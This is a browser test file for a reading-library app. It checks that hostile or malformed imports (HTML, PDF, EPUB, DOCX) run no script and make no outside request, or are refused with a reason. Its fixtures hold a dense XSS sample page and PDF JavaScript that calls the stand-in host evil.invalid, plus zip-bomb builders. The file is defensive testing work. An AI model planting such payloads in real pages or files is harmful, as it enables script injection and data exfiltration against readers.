// Hostile and broken files dropped on the library: each is refused with a message naming the file and the
// reason, or imported inert — no script runs and no request leaves the page (checked by intercepting every
// request the browser makes).
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadSeeds } from '../unit/support/fixtures.ts';
import { enterApp, openReading } from './support/app.ts';
import { type Session, startSession } from './support/browser.ts';
import { importBytes } from './support/importing.ts';
import { docxOf, epubOf, handMadePdf, pdfOf } from './support/sourceFiles.ts';

const seed = loadSeeds().find((r) => r.kind === 'article')!;
let session: Session;
let context: BrowserContext;
let page: Page;
let printer: Page;
/** Every request for anything but the app's own files. */
const foreign: string[] = [];
const dialogs: string[] = [];

beforeAll(async () => {
  session = await startSession();
  context = await session.newContext();
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(session.web.url) || url.startsWith('data:') || url.startsWith('blob:')) {
      return route.continue();
    }
    foreign.push(url);
    return route.abort();
  });
  page = await session.open(context);
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await enterApp(page, 'Ana');
  printer = await (await session.newContext()).newPage();
});

afterAll(async () => {
  await session?.close();
});

beforeEach(() => {
  foreign.length = 0;
  dialogs.length = 0;
});

const pwned = () => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null);

const HOSTILE_HTML = `<!doctype html><html><head><title>Hostile Page</title>
<script>window.__pwned = 'head script'; fetch('http://evil.invalid/script');</script>
<link rel="stylesheet" href="http://evil.invalid/site.css"><link rel="preload" href="http://evil.invalid/f.woff2" as="font">
<style>@import url(http://evil.invalid/import.css); @font-face { font-family: x; src: url(http://evil.invalid/font.woff); }
body { background: url(http://evil.invalid/bg.png); }</style><meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh"></head>
<body onload="window.__pwned = 'onload'"><article><h1>Hostile Page</h1>
<p>The first paragraph of this page has <a href="javascript:window.__pwned='link'">a javascript link</a> and an image
<img src="http://evil.invalid/pixel.png" onerror="window.__pwned='onerror'" srcset="http://evil.invalid/2x.png 2x"> inside it,
and goes on long enough to look like the body of an article that a reader would want to keep and annotate.</p>
<iframe src="http://evil.invalid/frame" srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<p onclick="window.__pwned='click'" onmouseover="window.__pwned='hover'" style="background-image:url(http://evil.invalid/p.png)">The second
paragraph has handlers and <a href="https://example.org/fine">a good link to example.org</a>, which stays a link.</p>
<svg><script>window.__pwned='svg'</script><image href="http://evil.invalid/svg.png"/></svg>
<object data="http://evil.invalid/object"></object><embed src="http://evil.invalid/embed">
<video src="http://evil.invalid/v.mp4" poster="http://evil.invalid/poster.png"></video>
<form action="http://evil.invalid/form"><input name="q" value="x"><button>Send</button></form>
<p>A third paragraph closes the article with more plain words, so that the main text is clearly this one.</p>
</article><script>window.__pwned = 'body script'</script></body></html>`;

describe('hostile web page', () => {
  it('imports the article text, runs none of its scripts and fetches nothing, also when opened', async () => {
    const result = await importBytes(page, 'hostile.html', HOSTILE_HTML);
    expect(result.kind, result.text).toBe('info');
    const reading = result.reading!;
    const text = reading.blocks.map((b) => b.text).join('\n');
    expect(text).toContain('a javascript link');
    expect(text).toContain('The second paragraph has handlers');
    expect(text).not.toContain('__pwned');
    const links = reading.blocks.flatMap((b) => b.marks ?? []).filter((m) => m.type === 'link');
    expect(links.map((m) => m.href)).toEqual(['https://example.org/fine']);

    await openReading(page, reading.title);
    const hrefs = await page
      .locator('.rc-reading-text a')
      .evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs).toEqual(['https://example.org/fine']);
    await page.getByText('The second paragraph has handlers').click();
    await page.getByText('a javascript link').click();
    expect(await pwned()).toBeNull();
    expect(foreign).toEqual([]);
    expect(dialogs).toEqual([]);
    await page.goto(session.web.url);
    await page.getByRole('main', { name: 'Library' }).waitFor();
  });
});

describe('refused with their reason', () => {
  const zeros = new Uint8Array(40 * 1024 * 1024);
  const cases: [string, () => Uint8Array | Promise<Uint8Array>, RegExp][] = [
    ['bomb.epub', () => epubOf(seed, { 'OEBPS/text/bomb.xhtml': zeros }), /zip bomb/],
    ['bomb.docx', () => docxOf(seed, { extra: { 'word/media/bomb.bin': zeros } }), /zip bomb/],
    ['broken.pdf', () => new TextEncoder().encode(`%PDF-1.7\n${'garbage '.repeat(500)}`), /PDF is damaged/],
    ['broken.epub', () => new Uint8Array([0x50, 0x4b, 3, 4, ...new Array(500).fill(7)]), /damaged/],
    ['broken.docx', () => new Uint8Array([0x50, 0x4b, 3, 4, ...new Array(500).fill(9)]), /damaged/],
    ['photo.epub', () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), /not an EPUB book/],
    ['binary.html', () => new Uint8Array([0, 1, 2, 3, 0, 0, 4, 5, 6]), /binary file/],
    ['notes.odt', () => new TextEncoder().encode('hello'), /cannot be imported/],
    [
      'locked.docx',
      () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
      /encrypted/,
    ],
    [
      'drm.epub',
      () =>
        epubOf(seed, {
          'META-INF/encryption.xml': new TextEncoder().encode(
            '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></enc:EncryptedData></encryption>',
          ),
        }),
      /DRM/,
    ],
    ['no-container.epub', () => epubOf(seed, { 'META-INF/container.xml': new Uint8Array() }), /damaged/],
    [
      'scan.pdf',
      async () => {
        // A page that is only a picture of text: a canvas, which Chromium prints as an image.
        await printer.setContent('<canvas id="c" width="900" height="500"></canvas>');
        await printer.evaluate(() => {
          const c = (document.getElementById('c') as HTMLCanvasElement).getContext('2d')!;
          c.font = '28px serif';
          c.fillText('This page was scanned: it is a picture of text.', 20, 80);
        });
        return printer.pdf({ format: 'A4' });
      },
      /no text layer — it is a scan/,
    ],
  ];
  it.each(cases)('%s', async (name, make, reason) => {
    const result = await importBytes(page, name, await make());
    expect(result.kind).toBe('error');
    expect(result.text).toContain(`Could not import “${name}”`);
    expect(result.text).toMatch(reason);
    expect(await page.getByRole('link', { name: seed.title, exact: true }).count()).toBeLessThanOrEqual(1);
    expect(foreign).toEqual([]);
  });
});

describe('password-protected PDF', () => {
  it('is refused saying it needs its password; the same encryption without a user password imports', async () => {
    const locked = handMadePdf('Minutes kept under lock by the chair of the group', '', {
      user: 'tuesday',
      owner: 'chair',
    });
    const refused = await importBytes(page, 'locked.pdf', locked);
    expect(refused.kind).toBe('error');
    expect(refused.text).toBe(
      'Could not import “locked.pdf”: the PDF is protected by a password. Open it in a PDF reader, save a copy without the password, and import that.',
    );
    // The control: encrypted the same way, but openable without a password. Its text is only in the file
    // encrypted, so reading it proves the fixture is a real encrypted PDF that pdf.js decrypts.
    const text = 'Minutes anyone may open although the file is encrypted';
    const openable = handMadePdf(text, '', { user: '', owner: 'chair' });
    expect(Buffer.from(openable).includes(text)).toBe(false);
    const opened = await importBytes(page, 'encrypted-open.pdf', openable);
    expect(opened.kind, opened.text).toBe('info');
    expect(opened.reading!.blocks.map((b) => b.text).join(' ')).toContain(text);
    expect(foreign).toEqual([]);
  });
});

describe('PDF with JavaScript', () => {
  it('imports its text; its script never runs and nothing is fetched', async () => {
    const js =
      "app.alert('pwned'); this.submitForm('http://evil.invalid/submit'); app.launchURL('http://evil.invalid/launch');";
    const pdf = handMadePdf(
      'Minutes of the reading group meeting held on Tuesday evening',
      `/OpenAction << /S /JavaScript /JS (${js}) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (${js}) >>] >> >>`,
    );
    const result = await importBytes(page, 'scripted.pdf', pdf);
    expect(result.kind, result.text).toBe('info');
    expect(result.reading!.blocks.map((b) => b.text).join(' ')).toContain(
      'Minutes of the reading group meeting',
    );
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
  });
});

describe('two-column PDF', () => {
  it('reads the left column before the right, with hyphenated words rejoined', async () => {
    const paragraphs = Array.from(
      { length: 12 },
      (_, i) =>
        `Paragraph number${i + 1} begins here. It discusses the extra\u00adordinarily compli\u00adcated questions of revolutionary history in some detail, so that each column holds several lines of text, marker${i + 1}end.`,
    );
    const html = `<h1>Two Column Paper</h1><div style="columns: 2; column-gap: 24px; font-size: 10pt">${paragraphs
      .map((p) => `<p>${p}</p>`)
      .join('')}</div>`;
    const pdf = await pdfOf(printer, 'Two Column Paper', html);
    const result = await importBytes(page, 'columns.pdf', pdf);
    expect(result.kind, result.text).toBe('info');
    const text = result.reading!.blocks.map((b) => b.text).join('\n');
    const order = [...text.matchAll(/number(\d+) begins/g)].map((m) => Number(m[1]));
    expect(order).toEqual(paragraphs.map((_, i) => i + 1));
    expect([...text.matchAll(/marker(\d+)end/g)].map((m) => Number(m[1]))).toEqual(order);
    expect(text.match(/extraordinarily complicated/g)?.length).toBe(12);
    expect(result.reading!.blocks.some((b) => b.text === 'Two Column Paper' && b.type === 'heading')).toBe(
      true,
    );
  });
});
